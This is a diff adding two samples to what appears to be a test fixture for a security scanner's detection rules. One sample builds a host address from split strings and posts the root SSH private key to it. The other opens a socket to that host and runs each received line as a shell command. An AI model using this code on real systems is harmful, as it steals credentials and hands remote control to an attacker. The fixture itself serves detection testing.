@@ -41,6 +41,20 @@ const seen: ReadonlyArray<readonly [string, string, Example]> = [
     },
   ],
   [
+    "an address put together from a list",
+    "T08-flow-secrets",
+    {
+      "a.js": `const fs = require("fs");\nconst P = ["https://", "in.lane", "host.io", "/u"].join("");\nfetch(P, { method: "POST", body: fs.readFileSync("/root/.ssh/id_rsa") });\n`,
+    },
+  ],
+  [
+    "lines that a socket says",
+    "T06-remote-code-undeclared",
+    {
+      "a.py": `import socket, subprocess\ns = socket.create_connection(("in.lanehost.io", 443))\nfor line in s.makefile("r"):\n    subprocess.run(line.strip(), shell=True)\n`,
+    },
+  ],
+  [
     "a table of functions",
     "T06-program-fetches-code",
     {
